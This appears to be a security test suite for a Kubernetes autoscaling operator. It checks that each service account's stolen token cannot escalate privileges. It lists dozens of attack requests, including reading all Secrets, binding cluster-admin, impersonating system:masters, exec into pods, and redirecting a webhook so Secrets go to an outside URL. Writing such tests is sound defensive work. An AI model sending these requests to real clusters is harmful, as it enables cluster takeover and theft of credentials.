"""What a thief of each account's token can and cannot do, tried on the real kube-apiserver with that token.

Each attempt is sent for real, by the account itself, and is refused by RBAC or by one of our policies. What an account may
do by design is in SECURITY.md, and `test_accepted` compares the rights with golden files.
"""

import asyncio
import base64
import json
from datetime import UTC, datetime
from itertools import count
from typing import Any

import pytest

from tests.real.install.conftest import ROLES, VALUES, WEBHOOKS
from tests.scenarios.clocks import ShiftedClock
from trimtab.cluster.config import load_kubeconfig
from trimtab.cluster.http import HttpTransport
from trimtab.cluster.transport import Request
from trimtab.install import manifests, set_values
from trimtab.operator.settings.settings import Settings
from trimtab.operator.vertical.admission.certificates import make_authority
from trimtab.operator.vertical.admission.registration import configurations

pytestmark = pytest.mark.real
ACCOUNTS = ("horizontal", "recommender", "updater", "admission", "adapter", "dashboard")
NUMBERS = count()
RBAC = "/apis/rbac.authorization.k8s.io/v1"
HOOKS = "/apis/admissionregistration.k8s.io/v1"
HOME = "/api/v1/namespaces/trimtab"
SHOP = "/api/v1/namespaces/shop"
MERGE, JSON_PATCH, APPLY = (
    {"Content-Type": f"application/{kind}-patch+{form}"}
    for kind, form in (("merge", "json"), ("json", "json"), ("apply", "yaml"))
)
SIMPLE = {"containers": [{"name": "app", "image": "evil:1"}]}
RESTRICTED = {
    "securityContext": {"runAsNonRoot": True, "runAsUser": 1, "seccompProfile": {"type": "RuntimeDefault"}},
    "containers": [
        {
            "name": "app",
            "image": "evil:1",
            "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
        }
    ],
}
"""Pod security lets it in, so that a refusal is one of ours."""


def pod(**spec: Any) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": f"evil-{next(NUMBERS)}"},
            "spec": {**RESTRICTED, **spec}}  # fmt: skip


def named(api: str, kind: str, name: str = "evil", **rest: Any) -> dict[str, Any]:
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name}, **rest}


def binding(kind: str, role: str) -> dict[str, Any]:
    subject = {
        "kind": "Group",
        "name": "system:serviceaccounts:trimtab",
        "apiGroup": "rbac.authorization.k8s.io",
    }
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}
    return named("rbac.authorization.k8s.io/v1", kind, roleRef=reference, subjects=[subject])


ALL = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
REVIEW = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": []}}

Attempt = tuple[str, str, Any]
"""Method, path and body. PATCH takes a pair of headers and body."""

IMAGE = [{"op": "replace", "path": "/spec/containers/0/image", "value": "evil:2"}]

EVERY_ACCOUNT: dict[str, Attempt] = {
    "read all Secrets": ("GET", "/api/v1/secrets", None),
    "read the Secrets of our namespace": ("GET", f"{HOME}/secrets", None),
    "watch the Secrets of a user": ("GET", f"{SHOP}/secrets?watch=true&timeoutSeconds=1", None),
    "create a Secret with an account's token": (
        "POST", f"{HOME}/secrets",
        {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
         "metadata": {"name": "evil", "annotations": {"kubernetes.io/service-account.name": "trimtab-admission"}}},
    ),
    "ask for a token of admission": ("POST", f"{HOME}/serviceaccounts/trimtab-admission/token", REVIEW),
    "ask for a token in kube-system": (
        "POST", "/api/v1/namespaces/kube-system/serviceaccounts/default/token", REVIEW),
    "create a pod in our namespace as admission": ("POST", f"{HOME}/pods", pod(serviceAccountName="trimtab-admission")),
    "create a pod with the webhook's Secret": (
        "POST", f"{HOME}/pods",
        pod(volumes=[{"name": "key", "secret": {"secretName": "trimtab-webhook-tls"}}]),
    ),
    "create a pod of a user": ("POST", f"{SHOP}/pods", pod()),
    "create a pod in kube-system": ("POST", "/api/v1/namespaces/kube-system/pods", pod()),
    "change a pod's image": (
        "PATCH", f"{SHOP}/pods/victim", (JSON_PATCH, IMAGE)),
    "change a pod's image through resize": (
        "PATCH", f"{SHOP}/pods/victim/resize", (JSON_PATCH, IMAGE)),
    "replace a pod": ("PUT", f"{SHOP}/pods/victim", pod()),
    "give a pod another owner": (
        "PATCH", f"{SHOP}/pods/victim",
        (MERGE, {"metadata": {"ownerReferences": [
            {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-4000-8000-000000000000"}
        ]}}),
    ),
    "hold a pod by a finalizer": ("PATCH", f"{SHOP}/pods/victim", (MERGE, {"metadata": {"finalizers": ["evil.dev/x"]}})),
    "delete a pod": ("DELETE", f"{SHOP}/pods/victim", None),
    "delete all pods": ("DELETE", f"{SHOP}/pods", None),
    "bind a pod to a node": (
        "POST", f"{SHOP}/pods/victim/binding",
        {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "victim"}, "target": {"kind": "Node", "name": "n"}},
    ),
    "exec in a pod": ("POST", f"{SHOP}/pods/victim/exec?command=sh", None),
    "attach to a pod": ("POST", f"{SHOP}/pods/victim/attach", None),
    "forward a port of a pod": ("POST", f"{SHOP}/pods/victim/portforward", None),
    "call a pod": ("GET", f"{SHOP}/pods/victim/proxy/", None),
    "read a pod's log": ("GET", f"{SHOP}/pods/victim/log", None),
    "add an ephemeral container": (
        "PATCH", f"{SHOP}/pods/victim/ephemeralcontainers",
        (MERGE, {"spec": {"ephemeralContainers": [{"name": "e", "image": "evil:1"}]}})),
    "set a pod's status": ("PATCH", f"{SHOP}/pods/victim/status", (MERGE, {"status": {"phase": "Failed"}})),
    "call a node": ("GET", "/api/v1/nodes/n/proxy/pods", None),
    "call a Service": ("GET", f"{HOME}/services/trimtab-webhook/proxy/", None),
    "change a node": ("PATCH", "/api/v1/nodes/n", (MERGE, {"metadata": {"labels": {"evil": "1"}}})),
    "change a Deployment": (
        "PATCH", "/apis/apps/v1/namespaces/shop/deployments/web", (MERGE, {"metadata": {"labels": {"evil": "1"}}})),
    "change one of our Deployments": (
        "PATCH", "/apis/apps/v1/namespaces/trimtab/deployments/trimtab-admission",
        (MERGE, {"spec": {"template": {"spec": {"serviceAccountName": "trimtab-updater"}}}})),
    "create a Job": (
        "POST", "/apis/batch/v1/namespaces/trimtab/jobs",
        named("batch/v1", "Job", spec={"template": {"spec": {**RESTRICTED, "restartPolicy": "Never"}}})),
    "create a DaemonSet": (
        "POST", "/apis/apps/v1/namespaces/kube-system/daemonsets",
        named("apps/v1", "DaemonSet", spec={"selector": {"matchLabels": {"a": "b"}},
              "template": {"metadata": {"labels": {"a": "b"}}, "spec": SIMPLE}})),
    "make itself an administrator": (
        "POST", f"{RBAC}/clusterrolebindings", binding("ClusterRoleBinding", "cluster-admin")),
    "make itself one in a namespace": (
        "POST", f"{RBAC}/namespaces/trimtab/rolebindings", binding("RoleBinding", "admin")),
    "create a role with all rights": (
        "POST", f"{RBAC}/clusterroles", named("rbac.authorization.k8s.io/v1", "ClusterRole", rules=ALL)),
    "add rights to its own role": ("PATCH", f"{RBAC}/clusterroles/trimtab-updater", (MERGE, {"rules": ALL})),
    "impersonate an administrator": ("IMPERSONATE", "/api/v1/secrets", {"Impersonate-User": "admin"}),
    "impersonate masters": (
        "IMPERSONATE", "/api/v1/secrets", {"Impersonate-User": "x", "Impersonate-Group": "system:masters"}),
    "impersonate another account": (
        "IMPERSONATE", f"{SHOP}/pods", {"Impersonate-User": "system:serviceaccount:trimtab:trimtab-updater"}),
    "approve a certificate": (
        "PATCH", "/apis/certificates.k8s.io/v1/certificatesigningrequests/x/approval", (MERGE, {"status": {}})),
    "ask for a certificate": (
        "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests",
        named("certificates.k8s.io/v1", "CertificateSigningRequest",
              spec={"request": "eA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]})),
    "register a foreign webhook": (
        "POST", f"{HOOKS}/mutatingwebhookconfigurations",
        named("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration")),
    "change a foreign webhook": (
        "PATCH", f"{HOOKS}/validatingwebhookconfigurations/foreign", (MERGE, {"webhooks": []})),
    "delete our webhooks": ("DELETE", f"{HOOKS}/mutatingwebhookconfigurations/trimtab-vpa", None),
    "delete our policy": ("DELETE", f"{HOOKS}/validatingadmissionpolicies/trimtab-updater-pods", None),
    "weaken our policy": (
        "PATCH", f"{HOOKS}/validatingadmissionpolicybindings/trimtab-updater-pods",
        (MERGE, {"spec": {"validationActions": ["Warn"]}})),
    "write a definition": (
        "PATCH", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/verticalpodautoscalers.autoscaling.trimtab.dev",
        (MERGE, {"spec": {"conversion": {"strategy": "None"}}})),
    "register an aggregated API": (
        "POST", "/apis/apiregistration.k8s.io/v1/apiservices",
        named("apiregistration.k8s.io/v1", "APIService", "v1.evil.dev",
              spec={"group": "evil.dev", "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1})),
    "point our Service elsewhere": (
        "PATCH", f"{HOME}/services/trimtab-webhook", (MERGE, {"spec": {"selector": {"a": "b"}}})),
    "create endpoints of our Service": (
        "POST", "/apis/discovery.k8s.io/v1/namespaces/trimtab/endpointslices",
        {"apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4", "endpoints": [],
         "metadata": {"name": "evil", "labels": {"kubernetes.io/service-name": "trimtab-webhook"}}}),
    "change a network policy": (
        "PATCH", "/apis/networking.k8s.io/v1/namespaces/trimtab/networkpolicies/trimtab-default",
        (MERGE, {"spec": {"ingress": [{}]}})),
    "change a namespace": ("PATCH", "/api/v1/namespaces/shop", (MERGE, {"metadata": {"labels": {"evil": "1"}}})),
    "create a ConfigMap": ("POST", f"{HOME}/configmaps", named("v1", "ConfigMap")),
    "take another program's Lease": (
        "POST", "/apis/coordination.k8s.io/v1/namespaces/trimtab/leases",
        named("coordination.k8s.io/v1", "Lease", "trimtab-other", spec={"holderIdentity": "evil"})),
    "create a Lease in kube-system": (
        "POST", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases",
        named("coordination.k8s.io/v1", "Lease", "kube-scheduler", spec={"holderIdentity": "evil"})),
    "write an HPA": (
        "PATCH", "/apis/autoscaling.trimtab.dev/v2/namespaces/shop/horizontalpodautoscalers/x",
        (MERGE, {"spec": {"maxReplicas": 99}})),
    "write a VPA": (
        "PATCH", "/apis/autoscaling.trimtab.dev/v1/namespaces/shop/verticalpodautoscalers/x", (MERGE, {"spec": {}})),
}  # fmt: skip


def webhook_changes(kind: str = "Mutating") -> dict[str, tuple[dict[str, str], Any]]:
    """Every way to have the API server send objects elsewhere, or pods unsized, by admission's right to patch."""
    everything = [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}]

    def replaced(path: str, value: Any) -> tuple[dict[str, str], Any]:
        return JSON_PATCH, [{"op": "replace", "path": f"/webhooks/0/{path}", "value": value}]

    secrets = {
        "name": "secrets.evil.dev",
        "clientConfig": {"url": "https://10.9.8.7/", "caBundle": base64.b64encode(b"x").decode()},
        "rules": [
            {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"], "operations": ["CREATE"]}
        ],
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
    }
    service = {"name": "evil", "namespace": "shop"}
    return {
        "a webhook for Secrets at a URL": (MERGE, {"webhooks": [secrets]}),
        "one more webhook": (JSON_PATCH, [{"op": "add", "path": "/webhooks/-", "value": secrets}]),
        "a webhook by server-side apply": (
            APPLY,
            {"apiVersion": "admissionregistration.k8s.io/v1", "kind": f"{kind}WebhookConfiguration",
             "metadata": {"name": "trimtab-vpa"}, "webhooks": [secrets]},
        ),
        "other rules": replaced("rules", everything),
        "another operation": replaced("rules/0/operations", ["CREATE", "UPDATE", "DELETE"]),
        "another Service": replaced("clientConfig/service/name", "evil"),
        "a Service of another namespace": replaced("clientConfig/service", service),
        "another path": replaced("clientConfig/service/path", "/evil"),
        "a URL": (JSON_PATCH, [
            {"op": "remove", "path": "/webhooks/0/clientConfig/service"},
            {"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://10.9.8.7/"}]),
        "other namespaces": replaced("namespaceSelector", {"matchLabels": {"evil": "1"}}),
        "all objects": (JSON_PATCH, [{"op": "remove", "path": "/webhooks/2/objectSelector/matchExpressions"}]),
        "no match condition": (JSON_PATCH, [{"op": "remove", "path": "/webhooks/0/matchConditions"}]),
        "a condition that never fails": replaced("matchConditions/0/expression", "true"),
        "failing closed": replaced("failurePolicy", "Fail"),
        "another match policy": replaced("matchPolicy", "Exact"),
        "a long timeout": replaced("timeoutSeconds", 30),
        "other side effects": replaced("sideEffects", "NoneOnDryRun"),
        "another reinvocation": replaced("reinvocationPolicy", "Never"),
        "other versions": replaced("admissionReviewVersions", ["v1", "v2"]),
        "another name": replaced("name", "evil.vpa.trimtab.dev"),
        "one webhook fewer": (JSON_PATCH, [{"op": "remove", "path": "/webhooks/1"}]),
        "no webhook": (MERGE, {"webhooks": None}),
        "an owner, to have it collected": (MERGE, {"metadata": {"ownerReferences": [
            {"apiVersion": "v1", "kind": "Namespace", "name": "gone", "uid": "00000000-0000-4000-8000-000000000000"}]}}),
        "a finalizer": (MERGE, {"metadata": {"finalizers": ["evil.dev/x"]}}),
        "labels": (MERGE, {"metadata": {"labels": {"evil": "1"}}}),
        "annotations": (MERGE, {"metadata": {"annotations": {"evil": "1"}}}),
    }  # fmt: skip


class Thief:
    """Sends requests with an account's own token and returns the status and text of each answer."""

    def __init__(self, kubeconfig: Any) -> None:
        clock = ShiftedClock()
        self._transport = HttpTransport(clock, load_kubeconfig(clock, str(kubeconfig), environ={}))

    async def send(self, attempt: Attempt, *query: tuple[str, str]) -> tuple[int, str]:
        method, path, body = attempt
        path, _, text = path.partition("?")
        pairs = [
            *query,
            *((key, value) for key, _, value in (part.partition("=") for part in text.split("&") if part)),
        ]
        headers: dict[str, str] = {"Content-Type": "application/json"} if body is not None else {}
        if method == "IMPERSONATE":
            method, headers, body = "GET", body, None
        elif method == "PATCH":
            headers, body = body
            pairs += [("fieldManager", "thief"), ("force", "true")] if headers == APPLY else []
        encoded = None if body is None else json.dumps(body).encode()
        answer = await self._transport.request(Request(method, path, pairs, headers, encoded))
        return answer.status, answer.body.decode(errors="replace")

    async def close(self) -> None:
        await self._transport.close()


@pytest.fixture
def steal(kubeconfig_of):
    """Run a scenario with the token of an account."""

    def play(account, scenario):
        async def main():
            thief = Thief(kubeconfig_of(account))
            try:
                return await scenario(thief)
            finally:
                await thief.close()

        return asyncio.run(main())

    return play


@pytest.fixture(scope="module")
def victims(installed):
    """What is attacked: a pod of a user, and webhook configurations of another program."""
    installed.kubectl("create", "serviceaccount", "default", "-n", "shop")
    foreign = [named("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration", "foreign")]
    victim = {**pod(automountServiceAccountToken=False)}
    victim["metadata"] = {"name": "victim", "namespace": "shop"}
    done = installed.apply([*foreign, victim, *webhooks_of(installed)])
    assert done.returncode == 0, done.stderr
    yield
    for kind in WEBHOOKS:
        installed.kubectl("delete", kind, "trimtab-vpa", "foreign", "--ignore-not-found")
    installed.kubectl("delete", "pod", "victim", "-n", "shop", "--force")


def webhooks_of(installed):
    return [one for one in installed.objects if one["kind"] in WEBHOOKS]


def is_refused(attempt, answer):
    status, text = answer
    if attempt == "change a pod's image through resize" and status == 200:
        return '"image":"evil:2"' not in text  # the API server takes nothing but sizes there
    return status == 403


@pytest.mark.parametrize("account", ACCOUNTS)
def test_no_account_gets_further_rights(installed, victims, steal, account):
    async def scenario(thief):
        return {name: await thief.send(attempt) for name, attempt in EVERY_ACCOUNT.items()}

    answers = steal(account, scenario)
    assert {name: answer for name, answer in answers.items() if not is_refused(name, answer)} == {}


def test_the_attempts_are_valid_and_only_the_rights_are_missing(installed, victims):
    """Otherwise a refusal would say nothing. The administrator sends them in dry runs."""
    not_tried = {
        "exec in a pod", "attach to a pod", "forward a port of a pod", "call a pod", "call a node", "call a Service",
        "read a pod's log",  # need a kubelet
        "change a pod's image through resize", "replace a pod", "impersonate an administrator", "impersonate masters",
        "impersonate another account", "bind a pod to a node", "change a node", "change a Deployment",
        "approve a certificate", "ask for a certificate", "write an HPA", "write a VPA", "change one of our Deployments",
        "ask for a token in kube-system", "take another program's Lease", "hold a pod by a finalizer",
        "create a pod in kube-system", "register an aggregated API",
    }  # fmt: skip

    async def main():
        admin = Thief(installed.cluster.kubeconfig)
        try:
            return {
                name: await admin.send(attempt, ("dryRun", "All"))
                for name, attempt in EVERY_ACCOUNT.items()
                if name not in not_tried
            }
        finally:
            await admin.close()

    answers = asyncio.run(main())
    assert {name: answer for name, answer in answers.items() if answer[0] >= 400} == {}


POD_PATHS = [name for name in EVERY_ACCOUNT if name.startswith("create a pod")]


@pytest.mark.parametrize("attempt", [name for name in POD_PATHS if "kube-system" not in name])
def test_the_updater_creates_pods_in_dry_runs_only(victims, steal, attempt):
    """It ran a pod as `admission` with the webhook's key, and had every Secret sent to itself from there."""
    refused, dry = steal("updater", lambda thief: both_ways(thief, attempt))
    assert refused[0] == 403
    assert "may create pods in dry runs only" in refused[1]
    assert dry[0] == 201


async def both_ways(thief, attempt):
    return await thief.send(EVERY_ACCOUNT[attempt]), await thief.send(
        EVERY_ACCOUNT[attempt], ("dryRun", "All")
    )


@pytest.mark.parametrize("kind", ["mutating", "validating"])
def test_admission_changes_nothing_of_its_webhooks_but_the_ca_bundle(installed, victims, steal, kind):
    """It pointed a webhook for Secrets at a URL of its own and was sent every new Secret of the cluster."""
    path = f"{HOOKS}/{kind}webhookconfigurations/trimtab-vpa"
    only_mutating = {
        "all objects",
        "no match condition",
        "a condition that never fails",
        "another reinvocation",
    }
    changes = {name: change for name, change in webhook_changes(kind.title()).items()
               if kind == "mutating" or name not in only_mutating}  # fmt: skip
    bundle = [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": certificate()}]

    async def scenario(thief):
        refused = {name: await thief.send(("PATCH", path, change)) for name, change in changes.items()}
        return refused, await thief.send(("PATCH", path, (JSON_PATCH, bundle)))

    answers, allowed = steal("admission", scenario)
    by_policy = "may change only the CA bundle of its webhook configurations"
    assert {name: answer for name, answer in answers.items() if by_policy not in answer[1]} == {}
    assert {status for status, _ in answers.values()} == {403}
    assert allowed[0] == 200, allowed[1]
    stored = json.loads(
        installed.kubectl("get", f"{kind}webhookconfiguration", "trimtab-vpa", "-o", "json").stdout
    )
    (wanted,) = [one for one in webhooks_of(installed) if one["kind"].lower().startswith(kind)]
    assert [hook["name"] for hook in stored["webhooks"]] == [hook["name"] for hook in wanted["webhooks"]]


def certificate() -> str:
    """Return the CA of a pair, as a webhook configuration holds it."""
    return base64.b64encode(make_authority(datetime.now(UTC)).certificate_pem).decode()


def test_a_webhook_that_registers_itself_registers_nothing_else(installed, steal):
    """`vertical.admission.registersItself`, for flags that change the configurations."""
    values = set_values([*VALUES, "vertical.admission.registersItself=true"])
    kinds = (*ROLES, "ValidatingAdmissionPolicy")
    path = f"{HOOKS}/mutatingwebhookconfigurations/trimtab-vpa"
    wanted = configurations(Settings.of(namespace="trimtab"), base64.b64decode(certificate()))[0][1]

    async def scenario(thief):
        registered = await settled(thief, ("PATCH", path, (APPLY, wanted)))
        changes = {
            name: await thief.send(("PATCH", path, change))
            for name, change in webhook_changes().items()
            if name in REFUSED_IN_ANY_CASE
        }
        return registered, changes

    try:
        done = installed.apply([one for one in manifests(values) if one["kind"] in kinds])
        assert done.returncode == 0, done.stderr
        registered, changes = steal("admission", scenario)
    finally:
        installed.apply([one for one in manifests(set_values(VALUES)) if one["kind"] in kinds])
        installed.kubectl("delete", "mutatingwebhookconfiguration", "trimtab-vpa", "--ignore-not-found")
    assert registered[0] in {200, 201}, registered[1]
    assert {status for status, _ in changes.values()} == {403}
    by_policy = "may register only its own Service"
    assert {name: answer for name, answer in changes.items() if by_policy not in answer[1]} == {}


REFUSED_IN_ANY_CASE = (
    "a webhook for Secrets at a URL",
    "one more webhook",
    "a webhook by server-side apply",
    "other rules",
    "another operation",
    "another Service",
    "a Service of another namespace",
    "a URL",
)


async def settled(thief, attempt):
    """Send until the server works by a policy that was just applied."""
    for _ in range(100):
        answer = await thief.send(attempt)
        if answer[0] in {200, 201}:
            break
        await asyncio.sleep(0.1)
    return answer
